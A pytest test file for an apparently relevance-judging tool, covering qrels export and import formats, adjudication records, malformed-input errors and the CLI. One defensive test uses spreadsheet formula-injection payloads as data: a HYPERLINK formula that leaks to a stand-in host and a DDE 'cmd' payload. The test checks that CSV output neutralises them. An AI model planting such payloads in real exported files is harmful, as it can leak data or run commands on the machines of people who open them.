"""Qrels export/import round trips, policies, no-answer files, bad input."""

from __future__ import annotations

import json
import subprocess
import sys

import pandas as pd
import pytest

from reljudge.campaign import team_agreement
from reljudge.campaign import adjudication
from reljudge.campaign import export
from reljudge.campaign import judging
from reljudge.errors import InputError, ReljudgeError


@pytest.fixture
def judged(campaign_db):
    db = campaign_db
    for user, qid, pid, grade in [
        ("ann", "q1", "p02", 2),
        ("bob", "q1", "p02", 2),
        ("ann", "q1", "p01", 2),
        ("bob", "q1", "p01", 0),
        ("ann", "q2", "p04", 1),
        ("ann", "q1", "p03", 0),
    ]:
        judging.grade(
            db,
            user,
            qid,
            pid,
            grade,
            note="메모" if pid == "p02" and user == "ann" else None,
            evidence="감사의 생활이란" if grade == 2 and user == "ann" else None,
        )
    judging.mark_no_answer(db, "ann", "q3", True)
    judging.mark_no_answer(db, "bob", "q3", True)
    return db


def test_trec_export_expands_duplicates_and_writes_no_answer_file(judged, tmp_path):
    out = tmp_path / "qrels.txt"
    summary = export.write_qrels(judged, out, "trec")
    lines = sorted(out.read_text(encoding="utf-8").splitlines())
    # p01 is judged 2 vs 0 -> tie -> 0; its copies p06, p07 carry the same grade
    assert lines == sorted(["q1 0 p02 2", "q1 0 p01 0", "q1 0 p06 0", "q1 0 p07 0", "q1 0 p03 0", "q2 0 p04 1"])
    side = pd.read_csv(summary.paths[1], sep="\t")
    assert list(side.qid) == ["q3"] and summary.n_no_answer == 1


def test_adjudicated_policy_and_frozen_version(judged, tmp_path):
    adjudication.adjudicate(judged, "lee", "q1", "p01", 2, "정의 문장 있음")
    v = adjudication.freeze(judged, "lee")
    judging.grade(judged, "ann", "q2", "p05", 2)  # after the freeze
    live = export.qrels_table(judged)[0]
    frozen = export.qrels_table(judged, version=v)[0]
    assert "p05" in set(live.pid) and "p05" not in set(frozen.pid)
    assert set(frozen[frozen.judged_as == "p01"].grade) == {2}
    majority = export.qrels_table(judged, policy="majority")[0]
    assert set(majority[majority.judged_as == "p01"].grade) == {0}
    only_bob = export.qrels_table(judged, policy="annotator:bob")[0]
    assert set(only_bob.judged_as) == {"p02", "p01"}
    assert set(export.qrels_table(judged, min_grade=2)[0].grade) == {2}


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_rich_formats_carry_provenance_notes_evidence(judged, tmp_path, fmt):
    out = tmp_path / f"q.{fmt}"
    export.write_qrels(judged, out, fmt)
    if fmt == "jsonl":
        rows = [
            json.loads(x, parse_constant=lambda t: pytest.fail(f"non-JSON {t}"))
            for x in out.read_text(encoding="utf-8").splitlines()
        ]
        frame = pd.DataFrame(rows)
    elif fmt == "csv":
        frame = pd.read_csv(out)
    else:
        frame = pd.read_parquet(out)
    row = frame[frame.pid == "p02"].iloc[0]
    assert row.grade == 2 and row.provenance == "unanimous" and row.n_annotators == 2
    assert "메모" in str(row.notes) and "감사의 생활이란" in str(row.evidence)
    assert (tmp_path / f"q.no_answer.{fmt}").exists()


def test_beir_round_trip_and_agreement_with_source(judged, tmp_path):
    f = tmp_path / "test.tsv"
    f.write_text("query-id\tcorpus-id\tscore\nq1\tp02\t2\nq1\tp01\t1\nq2\tp04\t0\n", encoding="utf-8")
    assert export.import_qrels(judged, f, "beir-ref").rows == 3
    out = tmp_path / "back.tsv"
    export.write_qrels(judged, out, "beir", policy="source:beir-ref")
    assert sorted(out.read_text(encoding="utf-8").splitlines()[1:]) == sorted(
        f.read_text(encoding="utf-8").splitlines()[1:]
    )
    assert out.read_text(encoding="utf-8").splitlines()[0] == "query-id\tcorpus-id\tscore"
    report = team_agreement.from_database(judged)
    assert "source:beir-ref" in report.grades.annotators
    # a source's judgments never vote in the team's qrels
    assert set(export.qrels_table(judged)[0].pid) >= {"p02"}
    assert "source:beir-ref" not in set(judging.history(judged, "q1", "p02").username)


def test_trec_round_trip(judged, tmp_path):
    f = tmp_path / "ext.qrels"
    f.write_text("q1 0 p02 2\nq1 0 p06 1\nq2 0 p05 0\nq1 0 p02 2\n", encoding="utf-8")  # exact repeat ok
    export.import_qrels(judged, f, "trec-ref")
    out = tmp_path / "out.qrels"
    export.write_qrels(judged, out, "trec", policy="source:trec-ref")
    assert sorted(out.read_text(encoding="utf-8").splitlines()) == sorted(
        set(f.read_text(encoding="utf-8").splitlines())
    )


BAD = [
    ("a.qrels", "q1 0 p02 2\nq1 0 p01\n", 2, "expected 4 fields"),
    ("a.qrels", "q1 0 p02 x\n", 1, "grade 'x' is not a whole number"),
    # the rule of `evaluate --qrels` (trec_io): ASCII digits, nothing rounded or truncated
    ("a.qrels", "q1 0 p02 1.5\n", 1, "grade '1.5' is not a whole number"),
    ("a.qrels", "q1 0 p02 2\nq1 0 p06 1.0\n", 2, "grade '1.0' is not a whole number"),
    ("a.qrels", "q1 0 p02 1_0\n", 1, "grade '1_0' is not a whole number"),
    ("a.qrels", "q1 0 p02 \u0662\n", 1, "grade '\u0662' is not a whole number"),  # Arabic-Indic 2
    ("a.tsv", "query-id\tcorpus-id\tscore\nq1\tp02\t2.0\n", 2, "grade '2.0' is not a whole number"),
    ("a.qrels", "q1 0 p02 3\n", 1, "out of range"),
    ("a.qrels", "q1 0 p02 2\nq1 0 p02 1\n", 2, "conflicting duplicate"),
    ("a.qrels", "q1 0 p02 2\nq9 0 p02 1\n", 2, "unknown qid"),
    ("a.qrels", "q1 0 p02 2\nq1 0 zz 1\n", 2, "unknown pid"),
    ("a.tsv", "qid\tpid\tscore\nq1\tp02\t2\n", 1, "header"),
    ("a.tsv", "query-id\tcorpus-id\tscore\nq1\tp02\n", 2, "3 tab-separated"),
    ("a.qrels", "", None, "empty"),
]


@pytest.mark.parametrize("name,text,line,problem", BAD)
def test_bad_qrels_name_file_and_line_and_write_nothing(judged, tmp_path, name, text, line, problem):
    export.import_qrels(judged, _write(tmp_path / "ok.qrels", "q1 0 p02 2\n"), "ref")
    f = _write(tmp_path / name, text)
    with pytest.raises(InputError) as err:
        export.import_qrels(judged, f, "ref")
    assert err.value.line == line and problem in str(err.value) and err.value.file == str(f)
    assert len(export.qrels_table(judged, policy="source:ref")[0]) == 1


def _write(path, text):
    path.write_text(text, encoding="utf-8")
    return path


def test_export_judgments_history_and_cli(judged, db_path, tmp_path):
    n = export.write_judgments(judged, tmp_path / "events.jsonl")
    assert n == 8

    def strict(token):  # NaN / Infinity are not JSON; other tools' parsers reject them
        raise ValueError(f"non-JSON token {token}")

    events = [
        json.loads(line, parse_constant=strict)
        for line in (tmp_path / "events.jsonl").read_text(encoding="utf-8").splitlines()
    ]
    verdict = next(e for e in events if e["qid"] == "q3")
    assert verdict["pid"] is None and verdict["grade"] is None and verdict["no_answer"] is True
    assert sum(e["note"] == "메모" for e in events) == 1 and sum(e["note"] is None for e in events) == 7
    judged.close()
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "reljudge",
            "--db",
            str(db_path),
            "export",
            "qrels",
            "--format",
            "trec",
            "--policy",
            "nonsense",
            "-o",
            str(tmp_path / "x"),
        ],
        capture_output=True,
        text=True,
    )
    assert r.returncode == 2 and "unknown policy" in r.stderr and "Traceback" not in r.stderr
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "reljudge",
            "--db",
            str(db_path),
            "export",
            "judgments",
            "--format",
            "csv",
            "-o",
            str(tmp_path / "ev.csv"),
        ],
        capture_output=True,
        text=True,
    )
    assert r.returncode == 0 and len(pd.read_csv(tmp_path / "ev.csv")) == 8
    with pytest.raises(ReljudgeError):
        export.qrels_table(
            __import__("reljudge.storage", fromlist=["open_database"]).open_database(db_path), policy="source:missing"
        )


def test_adjudications_export_keeps_every_ruling_with_its_reason(judged, db_path, tmp_path):
    adjudication.adjudicate(judged, "lee", "q1", "p01", 1, "관련은 있으나 정의가 없음")
    adjudication.adjudicate(judged, "kim", "q1", "p01", 2, "둘째 문장이 정의를 직접 서술함")
    adjudication.adjudicate_verdict(judged, "lee", "q3", False, "p09가 답을 담고 있음")
    assert export.write_adjudications(judged, tmp_path / "adj.jsonl") == 3
    rows = [json.loads(line) for line in (tmp_path / "adj.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [(r["lead"], r["qid"], r["pid"], r["grade"], r["no_answer"], r["in_force"]) for r in rows] == [
        ("lee", "q1", "p01", 1, None, False),
        ("kim", "q1", "p01", 2, None, True),
        ("lee", "q3", None, None, False, True),
    ]
    assert rows[1]["reason"] == "둘째 문장이 정의를 직접 서술함" and rows[0]["created_at"]
    judged.close()
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "reljudge",
            "--db",
            str(db_path),
            "export",
            "adjudications",
            "--format",
            "csv",
            "-o",
            str(tmp_path / "adj.csv"),
        ],
        capture_output=True,
        text=True,
    )
    assert r.returncode == 0 and "3 adjudications" in r.stdout
    assert list(pd.read_csv(tmp_path / "adj.csv").reason)[0] == "관련은 있으나 정의가 없음"


def test_a_bad_qrels_import_is_worded_in_korean_for_the_pages(judged, tmp_path):
    from reljudge import i18n

    f = _write(tmp_path / "a.qrels", "q1 0 p02 2\nq1 0 p02 1\n")
    with pytest.raises(InputError) as err:
        export.import_qrels(judged, f, "ref")
    ko = i18n.message(err.value.message, "ko")
    assert str(f) in ko and "2번째 줄" in ko and "서로 다른 중복" in ko
    assert "conflicting duplicate" in str(err.value)  # the CLI's English text


def test_no_csv_cell_is_a_live_spreadsheet_formula(db, tmp_path):
    """Ids, names and notes that start like a formula (= + - @, tab, CR) reach every CSV
    the tool writes as text ('=…), never as a formula a spreadsheet runs; the values stay
    exact in TREC, TSV and JSONL, and numbers stay numbers."""
    import csv
    from reljudge.campaign import auth
    from reljudge.campaign import setup as campaign
    from reljudge.ui.tables import csv_bytes

    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text(
        "".join(
            json.dumps({"pid": pid, "text": f"본문 {k}"}, ensure_ascii=False) + "\n"
            for k, pid in enumerate(['=HYPERLINK("http://x.example/?leak")', "+p2", "-p3", "@p4"])
        ),
        encoding="utf-8",
    )
    questions = tmp_path / "questions.jsonl"
    questions.write_text(
        json.dumps({"qid": "=1+1", "text": "질문?", "type": "사실 확인"}, ensure_ascii=False)
        + "\n"
        + json.dumps({"qid": "@q2", "text": "질문 둘?", "type": "사실 확인"}, ensure_ascii=False)
        + "\n",
        encoding="utf-8",
    )
    run = tmp_path / "s.run"
    run.write_text(
        '=1+1 Q0 =HYPERLINK("http://x.example/?leak") 1 9 s\n=1+1 Q0 +p2 2 8 s\n=1+1 Q0 -p3 3 7 s\n@q2 Q0 @p4 1 9 s\n',
        encoding="utf-8",
    )
    campaign.import_file(db, "corpus", corpus)
    campaign.import_file(db, "questions", questions)
    campaign.import_file(db, "run", run, system="s")
    campaign.pool(db, 10)
    auth.add_user(db, "@SUM", "password-1", "annotator")
    judging.grade(db, "@SUM", "=1+1", '=HYPERLINK("http://x.example/?leak")', 2, note="=cmd|' /C calc'!A0")
    judging.grade(db, "@SUM", "=1+1", "+p2", 0)
    judging.mark_no_answer(db, "@SUM", "@q2", True)

    def cells(path):
        with open(path, newline="", encoding="utf-8-sig") as fh:
            return [cell for row in csv.reader(fh) for cell in row]

    qrels = export.write_qrels(db, tmp_path / "qrels.csv", "csv")
    history = tmp_path / "history.csv"
    export.write_judgments(db, history, "csv")
    page = tmp_path / "page.csv"
    page.write_bytes(csv_bytes(export.qrels_table(db)[0], "ko"))
    for path in [*qrels.paths, history, page]:
        written = cells(path)
        live = [c for c in written if c.startswith(export.FORMULA_STARTS)]
        assert not live, (path.name, live)
        assert any(c.startswith("'=") or c.startswith("'@") for c in written), path.name
    # TREC qrels (for programs) keep the ids exactly
    trec = export.write_qrels(db, tmp_path / "qrels.txt", "trec")
    assert '=1+1 0 =HYPERLINK("http://x.example/?leak") 2' in trec.paths[0].read_text(encoding="utf-8")
    # numbers stay numbers
    assert export.defuse_formulas(pd.DataFrame({"x": [-0.5, 1.0]})).x.tolist() == [-0.5, 1.0]


def test_no_answer_questions_are_left_out_of_exported_qrels_unless_asked(judged, tmp_path, db_path):
    """A question whose final judgment is "no citable evidence" is left out of the means;
    its all-zero rows in an exported qrels file would make `trec_eval -c` average it in as
    0 (MRR 0.81 where the dashboard says 0.90). By default the qrels leave it out and the
    file beside lists it; asked for, its rows are kept, and the summary says which."""
    for pid in ("p08", "p03"):
        for user in ("ann", "bob"):
            judging.grade(judged, user, "q3", pid, 0)
    for fmt in ("trec", "beir", "csv"):
        out = tmp_path / f"qrels.{fmt}"
        summary = export.write_qrels(judged, out, fmt)
        text = out.read_text(encoding="utf-8")
        assert "q3" not in text and "left out of the qrels" in summary.message()
        assert "q3" in summary.paths[1].read_text(encoding="utf-8")
        kept = export.write_qrels(judged, tmp_path / f"kept.{fmt}", fmt, include_no_answer=True)
        assert "q3" in (tmp_path / f"kept.{fmt}").read_text(encoding="utf-8")
        assert "also as rows" in kept.message()
    page = {d.key: d for d in export.downloads(judged, "trec")}
    assert b"q3" not in page["qrels"].build() and b"q3" in page["no_answer"].build()
    assert (
        b"q3 0 p08 0" in {d.key: d for d in export.downloads(judged, "trec", include_no_answer=True)}["qrels"].build()
    )


def test_cli_include_no_answer_only_for_qrels(judged, tmp_path):
    from reljudge.cli.main import main

    if judged.backend != "duckdb":
        pytest.skip("the CLI part runs on the file")
    judging.grade(judged, "ann", "q3", "p08", 0)
    judged.close()
    db = str(judged.path)
    assert main(["--db", db, "export", "qrels", "-o", str(tmp_path / "a.txt")]) == 0
    assert "q3" not in (tmp_path / "a.txt").read_text(encoding="utf-8")
    assert main(["--db", db, "export", "qrels", "--include-no-answer", "-o", str(tmp_path / "b.txt")]) == 0
    assert "q3 0 p08 0" in (tmp_path / "b.txt").read_text(encoding="utf-8")
    assert main(["--db", db, "export", "judgments", "--include-no-answer", "-o", str(tmp_path / "c")]) == 2
